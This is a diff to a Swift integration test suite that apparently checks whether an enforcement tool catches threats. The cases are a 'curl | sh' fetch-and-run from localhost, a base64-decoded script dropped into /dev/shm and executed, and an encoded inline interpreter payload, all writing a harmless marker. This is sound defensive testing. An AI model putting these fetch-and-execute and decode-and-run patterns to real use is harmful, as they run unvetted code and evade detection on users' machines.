@@ -23,9 +23,11 @@ struct EnforceIntegrationTests {
             try h.write("www/i.sh", "echo pwned >> MARKERS\n")
             return "curl -fsS http://127.0.0.1:\(port)/i.sh | sh\n"
         },
-        Threat(name: "a script written by the lineage, then executed", rule: "executes-file-dropped-in-temp") { h, _ in
+        // What a tool writes itself is its own code (a Warning); what it decodes is not.
+        Threat(name: "a script decoded by the lineage into a temp dir, then executed", rule: "executes-file-dropped-in-temp") { h, _ in
             let drop = "/dev/shm/warden-it-\(getpid())-drop-$$.sh"
-            return "printf '#!/bin/sh\\necho pwned >> \(h.path("MARKERS"))\\n' > \(drop)\nchmod +x \(drop)\n\(drop)\nstatus=$?\nrm -f \(drop)\nexit $status\n"
+            let script = Data("#!/bin/sh\necho pwned >> \(h.path("MARKERS"))\n".utf8).base64EncodedString()
+            return "echo \(script) | base64 -d > \(drop)\nchmod +x \(drop)\n\(drop)\nstatus=$?\nrm -f \(drop)\nexit $status\n"
         },
         Threat(name: "an inline-code interpreter", rule: "inline-code-decodes-and-executes") { h, _ in
             let payload = Data("open('\(h.path("MARKERS"))', 'a').write('pwned\\n')".utf8).base64EncodedString()
